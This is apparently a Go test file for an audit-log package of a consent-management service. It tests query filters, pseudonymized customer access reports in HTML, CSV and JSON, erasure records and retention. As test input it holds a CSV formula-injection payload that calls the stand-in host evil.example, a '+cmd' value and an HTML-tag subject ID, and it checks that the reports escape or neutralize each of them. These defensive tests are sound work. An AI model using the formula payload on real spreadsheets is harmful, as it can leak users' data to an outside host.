package auditlog

import (
	"bytes"
	"context"
	"encoding/csv"
	"encoding/json"
	"errors"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"testing"
	"time"

	"golang.org/x/net/html"

	"github.com/consentry/consentry/sidecar/audit"
	"github.com/consentry/consentry/sidecar/decision"
)

// mixedLog writes decisions for two customers, purposes and outcomes.
func mixedLog(t *testing.T) *fixture {
	t.Helper()
	f := newFixture(t)
	l := f.open(t)
	ctx := context.Background()
	for i := 0; i < 12; i++ {
		e := entry(t, i)
		switch i % 3 {
		case 1:
			e.Input.Resource.CustomerID = "c-2002"
			e.Input.Purpose = "marketing.communications.email"
			e.Input.Subject.ID = "emp-<b>99</b>"
			e.Decision = decision.Deny(403, "consent.missing", "no consent")
			e.Enforcement = audit.Enforcement{Status: 403}
		case 2:
			e.Input.CaseID = "case-9"
		}
		e.Timestamp = time.Date(2026, 11, 20+i%3, 10, 0, 0, 0, time.UTC)
		if err := l.Append(ctx, e); err != nil {
			t.Fatal(err)
		}
	}
	l.Close()
	return f
}

func TestQueryFilters(t *testing.T) {
	f := mixedLog(t)
	ps, _ := NewPseudonymizer(testKey)
	count := func(fl Filter) int {
		n := 0
		if err := Query(context.Background(), f.dir, fl, func(*Event, []byte) error { n++; return nil }, nil); err != nil {
			t.Fatal(err)
		}
		return n
	}
	cases := []struct {
		name string
		f    Filter
		want int
	}{
		{"all", Filter{}, 12},
		{"customer", Filter{Customer: ps.Customer("c-2002")}, 4},
		{"raw customer id never matches", Filter{Customer: "c-2002"}, 0},
		{"subject", Filter{Subject: "emp-17"}, 8},
		{"purpose", Filter{Purpose: "marketing.communications.email"}, 4},
		{"case", Filter{Case: "case-9"}, 4},
		{"outcome", Filter{Outcome: "deny"}, 4},
		{"reason", Filter{Reason: "consent.missing"}, 4},
		{"time range", Filter{Since: time.Date(2026, 11, 21, 0, 0, 0, 0, time.UTC), Until: time.Date(2026, 11, 22, 0, 0, 0, 0, time.UTC)}, 4},
		{"combined", Filter{Customer: ps.Customer("c-1001"), Outcome: "allow", Case: "case-7"}, 4},
	}
	for _, tc := range cases {
		if got := count(tc.f); got != tc.want {
			t.Errorf("%s: got %d, want %d", tc.name, got, tc.want)
		}
	}
	var buf bytes.Buffer
	tw := NewTableWriter(&buf)
	var progress []Progress
	_ = Query(context.Background(), f.dir, Filter{Outcome: "deny"}, func(ev *Event, _ []byte) error { tw.Write(ev); return nil },
		func(p Progress) { progress = append(progress, p) })
	tw.Flush()
	if !strings.HasPrefix(buf.String(), "TIME") || strings.Count(buf.String(), "consent.missing") != 4 || len(progress) == 0 {
		t.Errorf("table:\n%s\nprogress %v", buf.String(), progress)
	}
}

func TestCustomerReport(t *testing.T) {
	f := mixedLog(t)
	ps, _ := NewPseudonymizer(testKey)
	rep, err := BuildReport(context.Background(), f.dir, ReportOptions{CustomerID: "c-2002", Pseudonymizer: ps, Now: time.Date(2026, 11, 23, 0, 0, 0, 0, time.UTC)})
	if err != nil {
		t.Fatal(err)
	}
	if len(rep.Accesses) != 4 || len(rep.ByPurpose) != 1 || rep.ByPurpose[0].Denied != 4 {
		t.Fatalf("report: %+v", rep)
	}
	var h bytes.Buffer
	if err := rep.WriteHTML(&h); err != nil {
		t.Fatal(err)
	}
	page := h.String()
	if strings.Contains(page, "emp-") || !strings.Contains(page, ps.Subject("emp-<b>99</b>")) {
		t.Error("employees are not pseudonymized in the HTML report")
	}
	checkSelfContained(t, page, []string{"Who accessed my data and why", "c-2002", "marketing.communications.email", "refused", "consent.missing"})

	rep2, _ := BuildReport(context.Background(), f.dir, ReportOptions{CustomerID: "c-2002", Pseudonymizer: ps, NameEmployees: true})
	h.Reset()
	rep2.WriteHTML(&h)
	if !strings.Contains(h.String(), "emp-&lt;b&gt;99&lt;/b&gt;") || strings.Contains(h.String(), "<b>99") {
		t.Error("named employees missing or not escaped")
	}
	var c bytes.Buffer
	rep.WriteCSV(&c)
	rows, err := csv.NewReader(&c).ReadAll()
	if err != nil || len(rows) != 5 || rows[1][7] != "deny" {
		t.Errorf("csv: %v %v", err, rows)
	}
	var j bytes.Buffer
	rep.WriteJSON(&j)
	var back Report
	if err := json.Unmarshal(j.Bytes(), &back); err != nil || len(back.Accesses) != 4 {
		t.Errorf("json: %v", err)
	}
}

// checkSelfContained parses the page and fails on scripts, external resources or missing text.
func checkSelfContained(t *testing.T, page string, want []string) {
	t.Helper()
	doc, err := html.Parse(strings.NewReader(page))
	if err != nil {
		t.Fatal(err)
	}
	var text strings.Builder
	var walk func(n *html.Node)
	walk = func(n *html.Node) {
		if n.Type == html.ElementNode {
			switch n.Data {
			case "script", "link", "img", "iframe", "object":
				t.Errorf("report contains <%s>", n.Data)
			}
			for _, a := range n.Attr {
				if (a.Key == "src" || a.Key == "href") && a.Val != "" {
					t.Errorf("report references %s=%q", a.Key, a.Val)
				}
			}
		}
		if n.Type == html.TextNode {
			text.WriteString(n.Data)
		}
		for c := n.FirstChild; c != nil; c = c.NextSibling {
			walk(c)
		}
	}
	walk(doc)
	for _, w := range want {
		if !strings.Contains(text.String(), w) {
			t.Errorf("report text lacks %q", w)
		}
	}
}

// The customer's report names each reason once per access, in the order the decision gave
// them, without touching the logged event's list.
func TestReportReasonsDistinct(t *testing.T) {
	for _, tc := range []struct{ in, want []string }{
		{nil, []string{}},
		{[]string{"consent.missing"}, []string{"consent.missing"}},
		{[]string{"special_category.mfa_required", "special_category.mfa_required", "special_category.role_required", "special_category.mfa_required"},
			[]string{"special_category.mfa_required", "special_category.role_required"}},
	} {
		orig := append([]string(nil), tc.in...)
		got := distinct(tc.in)
		if len(got) != len(tc.want) || (len(got) > 0 && !slices.Equal(got, tc.want)) {
			t.Errorf("distinct(%v) = %v, want %v", tc.in, got, tc.want)
		}
		if !slices.Equal(tc.in, orig) {
			t.Errorf("distinct changed its input: %v", tc.in)
		}
	}
}

// TestReportCustomerSubjects: a customer's login (the token's sub, here an email) never
// reaches the log raw: it takes the pseudonym of the customer it maps to. The report says
// "you" for the customer's own accesses and "another customer" for someone else's, in every
// format. CSV cells that a spreadsheet would run as formulas are neutralized.
func TestReportCustomerSubjects(t *testing.T) {
	f := newFixture(t)
	l := f.open(t)
	ctx := context.Background()
	add := func(i int, sub, subCustomer, purpose string) {
		e := entry(t, i)
		e.Input.Resource.CustomerID = "c-1001"
		e.Input.Subject.ID, e.Input.Subject.Type, e.Input.Subject.CustomerID = sub, "customer", subCustomer
		e.Input.Subject.Roles = []string{"customer"}
		e.Input.Purpose = purpose
		if err := l.Append(ctx, e); err != nil {
			t.Fatal(err)
		}
	}
	add(0, "alice@example.com", "c-1001", "essential.service.operations")
	add(1, "bob@example.com", "c-2002", `=HYPERLINK("https://evil.example/?"&A2;"Details")`)
	add(2, "carol", "", "+cmd")
	l.Close()
	raw := readAll(t, f.dir)
	for _, leak := range []string{"alice@example.com", "bob@example.com", `"carol"`} {
		if strings.Contains(raw, leak) {
			t.Errorf("the log holds a customer's raw login %s", leak)
		}
	}
	ps, _ := NewPseudonymizer(testKey)
	rep, err := BuildReport(ctx, f.dir, ReportOptions{CustomerID: "c-1001", Pseudonymizer: ps, NameEmployees: true})
	if err != nil || len(rep.Accesses) != 3 {
		t.Fatalf("report %+v %v", rep, err)
	}
	if w := []string{rep.Accesses[0].Who, rep.Accesses[1].Who, rep.Accesses[2].Who}; !slices.Equal(w, []string{"you", "another customer", "another customer"}) {
		t.Fatalf("who: %q", w)
	}
	var out bytes.Buffer
	for _, write := range []func(*bytes.Buffer) error{
		func(b *bytes.Buffer) error { return rep.WriteHTML(b) },
		func(b *bytes.Buffer) error { return rep.WriteJSON(b) },
		func(b *bytes.Buffer) error { return rep.WriteCSV(b) },
	} {
		out.Reset()
		if err := write(&out); err != nil {
			t.Fatal(err)
		}
		if s := out.String(); strings.Contains(s, "bob") || strings.Contains(s, ps.Customer("c-2002")) || strings.Contains(s, ps.Customer("carol")) {
			t.Errorf("a report names another customer: %s", s)
		}
	}
	rows, err := csv.NewReader(&out).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	for _, row := range rows[1:] {
		for i, cell := range row {
			if cell != "" && strings.ContainsRune("=+-@", rune(cell[0])) {
				t.Errorf("csv cell %d starts with a formula character: %q", i, cell)
			}
		}
	}
	if rows[2][4] != `'=HYPERLINK("https://evil.example/?"&A2;"Details")` {
		t.Errorf("purpose cell %q", rows[2][4])
	}
}

// readAll returns every segment of the log in dir, concatenated.
func readAll(t *testing.T, dir string) string {
	t.Helper()
	segs, err := listSegments(dir)
	if err != nil {
		t.Fatal(err)
	}
	var b strings.Builder
	for _, s := range segs {
		raw, err := os.ReadFile(filepath.Join(dir, s.name))
		if err != nil {
			t.Fatal(err)
		}
		b.Write(raw)
	}
	return b.String()
}

// TestQueryErasuresEscapesAndRetention: a customer query returns the customer's erasure
// record next to its decisions (and the report says so); filter values match as the log
// escapes them; a segment retention removes during the scan is passed over.
func TestQueryErasuresEscapesAndRetention(t *testing.T) {
	f := newFixture(t)
	f.cfg.SegmentMaxBytes = 4096
	l := f.open(t)
	ctx := context.Background()
	for i := 0; i < 8; i++ {
		e := entry(t, i)
		e.Input.Resource.CustomerID = "c-7"
		e.Input.Subject.ID = `CORP\jdoe`
		if err := l.Append(ctx, e); err != nil {
			t.Fatal(err)
		}
	}
	ps, _ := NewPseudonymizer(testKey)
	at := time.Date(2026, 11, 30, 12, 0, 0, 0, time.UTC)
	if err := l.AppendErasure(ctx, at, Erasure{Customer: ps.Customer("c-7"), Classes: []string{"contact"}, Actor: "dpo", Reason: "consent withdrawn", LedgerSeq: 1, LedgerHash: strings.Repeat("0", 64), Complete: true}); err != nil {
		t.Fatal(err)
	}
	l.Close()
	count := func(fl Filter) (decisions, erasures int) {
		t.Helper()
		if err := Query(ctx, f.dir, fl, func(ev *Event, _ []byte) error {
			if ev.Type == TypeErasure {
				erasures++
			} else {
				decisions++
			}
			return nil
		}, nil); err != nil {
			t.Fatal(err)
		}
		return
	}
	if d, e := count(Filter{Customer: ps.Customer("c-7")}); d != 8 || e != 1 {
		t.Fatalf("customer query: %d decisions, %d erasures", d, e)
	}
	if d, e := count(Filter{Customer: ps.Customer("c-7"), Purpose: "essential.service.operations.support"}); e != 0 || d == 0 {
		t.Fatalf("a decision-only filter returned erasures: %d %d", d, e)
	}
	if d, _ := count(Filter{Subject: `CORP\jdoe`}); d != 8 {
		t.Fatalf("subject with a backslash matched %d of 8", d)
	}
	rep, err := BuildReport(ctx, f.dir, ReportOptions{CustomerID: "c-7", Pseudonymizer: ps})
	if err != nil || len(rep.Erasures) != 1 || !rep.Erasures[0].Time.Equal(at) {
		t.Fatalf("report erasures %+v %v", rep.Erasures, err)
	}
	var h bytes.Buffer
	if err := rep.WriteHTML(&h); err != nil || !strings.Contains(h.String(), "Your data was erased on") {
		t.Fatalf("html lacks the erasure: %v", err)
	}
	// Retention removes the first segments while the scan is in the first one.
	segs, _ := listSegments(f.dir)
	if len(segs) < 3 {
		t.Fatalf("want several segments, got %d", len(segs))
	}
	removed := false
	err = ScanLines(f.dir, func(seg string, _ []byte) error {
		if !removed {
			removed = true
			for _, s := range segs[1:3] {
				if err := os.Remove(filepath.Join(f.dir, s.name)); err != nil {
					return err
				}
			}
		}
		return nil
	})
	if err != nil {
		t.Fatalf("scan with segments removed under it: %v", err)
	}
}

// TestQueryCancelled: a query cancelled while it scans stops within a few thousand lines,
// without a progress callback too.
func TestQueryCancelled(t *testing.T) {
	f := newFixture(t)
	f.cfg.Mode = ModeAsync
	l := f.open(t)
	for i := 0; i < 10000; i++ {
		if err := l.Append(context.Background(), entry(t, i)); err != nil {
			t.Fatal(err)
		}
	}
	l.Close()
	ctx, cancel := context.WithCancel(context.Background())
	seen := 0
	err := Query(ctx, f.dir, Filter{}, func(*Event, []byte) error {
		if seen++; seen == 10 {
			cancel()
		}
		return nil
	}, nil)
	if !errors.Is(err, context.Canceled) || seen > 4200 {
		t.Fatalf("cancelled query: %v after %d records", err, seen)
	}
}
